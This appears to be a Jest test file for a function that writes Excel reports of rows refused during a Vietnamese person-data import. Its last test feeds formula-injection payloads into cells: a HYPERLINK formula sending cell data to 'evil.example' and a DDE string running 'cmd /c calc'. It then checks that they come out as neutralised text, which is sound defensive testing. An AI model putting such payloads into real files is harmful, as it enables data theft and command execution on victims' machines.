import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import { createWriteStream } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { writeImportReport, type ReportedRow } from './import-report.ts';
import { openSpreadsheet } from './person-spreadsheet.ts';

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'ansinh-import-report-'));
});
afterAll(async () => {
  await rm(folder, { recursive: true, force: true });
});

const headers = ['STT', 'Họ và tên', 'Ngày sinh', 'Dân tộc'];
const badRows: ReportedRow[] = [
  {
    rowNumber: 5,
    cells: [3, 'Người Lỗi', '31/02/1950', 'Kinhh'],
    problems: [
      { column: 'Ngày sinh', message: 'Ngày sinh không tồn tại trên lịch.' },
      { column: 'Dân tộc', message: 'Không nhận ra dân tộc "Kinhh".' },
    ],
  },
  {
    rowNumber: 9,
    cells: [7, null, new Date(Date.UTC(2030, 0, 1)), 'Kinh'],
    problems: [
      { column: 'Họ và tên', message: 'Họ và tên không được để trống.' },
      { column: 'Ngày sinh', message: 'Ngày sinh không được ở tương lai.' },
    ],
  },
];

describe('writeImportReport', () => {
  it('writes the refused rows between Dòng and Lỗi, header bold, frozen and filtered', async () => {
    const path = join(folder, 'report.xlsx');
    async function* rows() {
      yield* badRows;
    }
    expect(await writeImportReport(path, headers, rows())).toEqual({ rowCount: 2 });

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(path);
    const sheet = workbook.worksheets[0]!;
    const valuesOf = (rowNumber: number) => (sheet.getRow(rowNumber).values as unknown[]).slice(1);
    expect(valuesOf(1)).toEqual(['Dòng', 'STT', 'Họ và tên', 'Ngày sinh', 'Dân tộc', 'Lỗi']);
    expect(sheet.getRow(1).font).toMatchObject({ bold: true });
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBe('A1:F1');
    expect(valuesOf(2)).toEqual([
      5,
      3,
      'Người Lỗi',
      '31/02/1950',
      'Kinhh',
      'Ngày sinh: Ngày sinh không tồn tại trên lịch.; Dân tộc: Không nhận ra dân tộc "Kinhh".',
    ]);
    expect(sheet.getRow(3).getCell(4).value).toEqual(new Date(Date.UTC(2030, 0, 1)));
    expect(sheet.getRow(3).getCell(4).numFmt).toBe('dd/mm/yyyy');
    expect(sheet.getRow(3).getCell(6).value).toBe(
      'Họ và tên: Họ và tên không được để trống.; Ngày sinh: Ngày sinh không được ở tương lai.',
    );
    expect(sheet.rowCount).toBe(3);
  });

  it('writes to a stream, and the report opens again as an import', async () => {
    const path = join(folder, 'report-from-stream.xlsx');
    expect(await writeImportReport(createWriteStream(path), headers, badRows)).toEqual({ rowCount: 2 });
    const opened = await openSpreadsheet(path);
    expect(opened.headers).toEqual(['Dòng', ...headers, 'Lỗi']);
    const rows = [];
    for await (const row of opened.rows) rows.push(row);
    expect(rows.map((row) => row.cells.slice(0, 3))).toEqual([
      [5, 3, 'Người Lỗi'],
      [9, 7, null],
    ]);
  });

  it('writes a header-only report when nothing was refused', async () => {
    const path = join(folder, 'empty-report.xlsx');
    expect(await writeImportReport(path, headers, [])).toEqual({ rowCount: 0 });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(path);
    expect(workbook.worksheets[0]!.rowCount).toBe(1);
  });

  it('ends with how many refused rows it left out, when the import capped the report', async () => {
    const path = join(folder, 'capped-report.xlsx');
    expect(await writeImportReport(path, headers, badRows, { omittedRows: () => 123_456 })).toEqual({
      rowCount: 2,
    });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(path);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.rowCount).toBe(4);
    expect(String(sheet.getRow(4).getCell(headers.length + 2).value)).toMatch(
      /^Còn 123\.456 dòng lỗi khác không ghi vào báo cáo này \(tối đa 2 dòng\)/,
    );
  });

  it('writes text that a spreadsheet would run as a formula as plain, neutralised text', async () => {
    const path = join(folder, 'formulas.xlsx');
    const hostile = [
      '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")',
      '+1+1',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
    ];
    await writeImportReport(
      path,
      ['=cmd|"/c calc"!A1', 'Địa chỉ'],
      hostile.map((text, i) => ({
        rowNumber: i + 2,
        cells: [text, -5],
        problems: [{ column: '=cmd|"/c calc"!A1', message: 'x' }],
      })),
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(path);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getRow(1).getCell(2).value).toBe(`'=cmd|"/c calc"!A1`);
    hostile.forEach((text, i) => {
      const row = sheet.getRow(i + 2);
      // XML reads a carriage return back as a line feed.
      expect(row.getCell(2).value).toBe(`'${text.replace('\r', '\n')}`);
      expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String);
      expect(row.getCell(2).formula).toBeUndefined();
      // Numbers stay numbers: only text can hold a formula.
      expect(row.getCell(3).value).toBe(-5);
      expect(row.getCell(4).value).toBe(`'=cmd|"/c calc"!A1: x`);
    });
    let formulas = 0;
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) formulas++;
      }),
    );
    expect(formulas).toBe(0);
  });
});
